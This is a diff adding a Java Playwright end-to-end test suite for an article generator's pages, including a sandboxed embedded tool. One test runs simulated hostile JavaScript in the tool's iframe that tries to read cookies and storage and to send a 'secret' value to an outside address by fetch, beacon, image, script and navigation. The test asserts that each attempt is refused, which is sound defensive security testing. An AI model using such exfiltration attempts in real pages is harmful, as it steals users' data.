@@ -1,0 +1,228 @@
+package dev.keywheel.e2e;
+
+import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.microsoft.playwright.Frame;
+import com.microsoft.playwright.Page;
+import com.microsoft.playwright.options.AriaRole;
+import com.microsoft.playwright.options.Cookie;
+import com.sun.net.httpserver.HttpServer;
+import dev.keywheel.RunningApp;
+import dev.keywheel.support.Chromium;
+import dev.keywheel.support.Look;
+import dev.keywheel.support.PageChecks;
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.atomic.AtomicInteger;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
+
+/**
+ * A finished article in a browser: read, used, taken away, vouched for; its tool is kept in its
+ * frame.
+ */
+class ArticleIT {
+  private static RunningApp app;
+  private static List<Cookie> cookies = List.of();
+  private static String articlePath = "";
+
+  @RegisterExtension final Chromium chromium = new Chromium();
+  private Visitor visitor;
+
+  @BeforeAll
+  static void start() {
+    app = RunningApp.start();
+  }
+
+  @AfterAll
+  static void stop() {
+    app.close();
+  }
+
+  @BeforeEach
+  void openArticle() {
+    visitor = new Visitor(app, chromium.open(Look.DESKTOP, cookies));
+    if (articlePath.isEmpty()) {
+      makeArticle();
+    }
+    visitor.open(articlePath);
+  }
+
+  private void makeArticle() {
+    visitor.setUp();
+    visitor.addKeys("sandbox", Visitor.keys(8));
+    visitor.generate("How to work out a discount in percent", "sandbox");
+    visitor.awaitRun("Completed");
+    assertThat(visitor.page.getByText("Demo content").first()).isVisible();
+    visitor.follow("Open article");
+    visitor.page.waitForURL(app.url() + "/articles/*");
+    articlePath = visitor.page.url().substring(app.url().length());
+    cookies = visitor.page.context().cookies();
+  }
+
+  @Test
+  void the_article_is_whole() {
+    PageChecks.assertGoodPage(visitor.page);
+    var dead =
+        visitor.page.evaluate(
+            "() => [...document.querySelectorAll('.article-contents a')]"
+                + ".filter(a => !document.getElementById(decodeURIComponent(a.hash.slice(1)))).map(a => a.hash)");
+    assertThat(dead).isEqualTo(List.of());
+    assertThat(
+            visitor.page.evaluate(
+                "() => document.querySelector('.article-picture img').naturalWidth"))
+        .isEqualTo(1200);
+    assertThat(visitor.page.locator(".article-section")).hasCount(2);
+    assertThat(visitor.page.locator("h1")).hasCount(1);
+  }
+
+  @Test
+  void every_download_is_a_file_with_something_in_it() {
+    for (var name :
+        List.of(
+            "Download HTML",
+            "Download Markdown",
+            "Download ZIP",
+            "Download JSON",
+            "Download WordPress file")) {
+      var file = visitor.page.waitForDownload(() -> visitor.follow(name));
+      assertThat(file.failure()).as(name).isNull();
+      assertThat(file.path()).as(name).isNotEmptyFile();
+    }
+  }
+
+  @Test
+  void a_person_vouches_for_it_and_takes_that_back() {
+    visitor.press("Mark as reviewed");
+    assertThat(visitor.page.locator(".article-side").getByText("Reviewed by " + Visitor.EMAIL))
+        .isVisible();
+    visitor.press("Make it a draft again");
+    assertThat(visitor.button("Mark as reviewed")).isVisible();
+  }
+
+  @Test
+  void the_tool_works_in_the_page() {
+    assertThat(tool().evaluate("() => window.origin")).isEqualTo("null");
+    assertToolWorks(tool());
+  }
+
+  @Test
+  void opened_by_itself_the_tool_stays_in_a_frame() {
+    var src = visitor.page.locator("iframe.tool-frame").getAttribute("src");
+    visitor.open(src);
+    assertThat(
+            visitor.page.getByRole(
+                AriaRole.HEADING, new Page.GetByRoleOptions().setName("Tool").setExact(true)))
+        .isVisible();
+    assertThat(visitor.page.evaluate("() => window.origin")).isEqualTo(app.url());
+    assertToolWorks(tool());
+  }
+
+  /** What a hostile tool would try, tried in the tool's own frame. */
+  @Test
+  void the_tool_reaches_neither_page_nor_network_nor_storage() throws IOException {
+    chromium.tolerate("."); // each refusal is an error on the console
+    var asked = new AtomicInteger();
+    var outside = listening(asked);
+    try {
+      var address = "http://127.0.0.1:" + outside.getAddress().getPort() + "/?typed=secret";
+      var got =
+          (Map<?, ?>)
+              tool()
+                  .evaluate(
+                      """
+                      async ({outside, own}) => {
+                        const tried = {};
+                        const attempt = async (name, act) => {
+                          try { await act(); tried[name] = 'reached'; } catch { tried[name] = 'refused'; }
+                        };
+                        await attempt('cookies', () => document.cookie.length);
+                        await attempt('local storage', () => localStorage.getItem('x'));
+                        await attempt('database', () => new Promise((ok, no) => {
+                          const open = indexedDB.open('x'); open.onsuccess = ok; open.onerror = no; }));
+                        await attempt('page', () => parent.document.body.innerHTML);
+                        await attempt('top', () => { top.location.href = outside; });
+                        await attempt('window', () => { if (!window.open || !window.open(outside)) throw 0; });
+                        await attempt('fetch outside', () => fetch(outside));
+                        await attempt('fetch own', () => fetch(own));
+                        await attempt('beacon', () => { if (!navigator.sendBeacon) throw 0; navigator.sendBeacon(outside); throw 0; });
+                        await attempt('picture', () => new Promise((ok, no) => {
+                          const image = new Image(); image.onload = ok; image.onerror = no; image.src = outside; }));
+                        await attempt('script', () => new Promise((ok, no) => {
+                          const script = document.createElement('script');
+                          script.onload = ok; script.onerror = no; script.src = outside; document.head.append(script); }));
+                        await attempt('peer', () => new RTCPeerConnection());
+                        setTimeout(() => { location.href = outside; });
+                        return tried;
+                      }
+                      """,
+                      Map.of("outside", address, "own", app.url() + "/keys"));
+      assertThat(got.values()).as(got.toString()).allMatch("refused"::equals);
+      // The frame's last try is to navigate itself: the page's policy shows a blocked frame
+      // instead.
+      visitor.page.waitForCondition(
+          () -> visitor.page.frames().stream().anyMatch(f -> f.url().startsWith("chrome-error")));
+      assertThat(asked).hasValue(0);
+      assertThat(visitor.page.url()).endsWith(articlePath);
+    } finally {
+      outside.stop(0);
+    }
+  }
+
+  private static HttpServer listening(AtomicInteger asked) throws IOException {
+    var server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+    server.createContext(
+        "/",
+        exchange -> {
+          asked.incrementAndGet();
+          exchange.getResponseHeaders().set("Access-Control-Allow-Origin", "*");
+          exchange.sendResponseHeaders(200, -1);
+          exchange.close();
+        });
+    server.start();
+    return server;
+  }
+
+  private Frame tool() {
+    var element = visitor.page.locator("iframe.tool-frame");
+    element.scrollIntoViewIfNeeded();
+    assertThat(element.contentFrame().locator("#tool-run")).isVisible();
+    return element.elementHandle().contentFrame();
+  }
+
+  /** Its first own example gives the result that it promises. */
+  private static void assertToolWorks(Frame tool) {
+    var example =
+        (Map<?, ?>)
+            tool.evaluate(
+                "() => JSON.parse(document.getElementById('tool-manifest').textContent).tests[0]");
+    ((Map<?, ?>) example.get("set")).forEach((id, value) -> set(tool, "#" + id, value.toString()));
+    tool.locator("#tool-run").click();
+    for (var expected : (List<?>) example.get("expect")) {
+      var wanted = (Map<?, ?>) expected;
+      var shown = tool.locator("#" + wanted.get("output"));
+      assertThat(shown).not().hasText("");
+      if (wanted.get("number") instanceof Number number) {
+        var text = shown.innerText().replaceAll("[^0-9.-]", "");
+        assertThat(Double.parseDouble(text))
+            .isCloseTo(number.doubleValue(), org.assertj.core.data.Offset.offset(0.02));
+      }
+    }
+  }
+
+  private static void set(Frame tool, String field, String value) {
+    var control = tool.locator(field);
+    switch (control.evaluate("e => e.type").toString()) {
+      case "select-one" -> control.selectOption(value);
+      case "checkbox" -> control.setChecked(value.equals("true") || value.equals("on"));
+      default -> control.fill(value);
+    }
+  }
+}
